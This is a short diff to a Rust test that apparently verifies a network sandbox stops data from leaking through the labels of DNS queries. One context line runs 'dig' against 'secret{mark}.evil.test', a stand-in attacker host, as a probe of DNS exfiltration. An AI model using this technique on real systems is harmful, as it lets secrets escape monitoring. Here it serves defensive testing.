@@ -130,7 +130,7 @@ fn data_does_not_leave_in_the_labels_of_questions() {
     net.world.sh(["--allow", &name], &script("")).run().succeeded();
     net.world.sh(["--allow", &name], &script(&format!("@{NAMESERVER}"))).run().succeeded();
 
-    assert_eq!(net.internet.queries("secret"), NOTHING);
+    assert_eq!(net.internet.queries(&mark), NOTHING);
     Command::new("dig").args(["+tries=1", &format!("secret{mark}.evil.test")]).output().expect("dig runs");
     assert_ne!(net.internet.queries(&format!("secret{mark}")), NOTHING, "the probe cannot fail");
 }
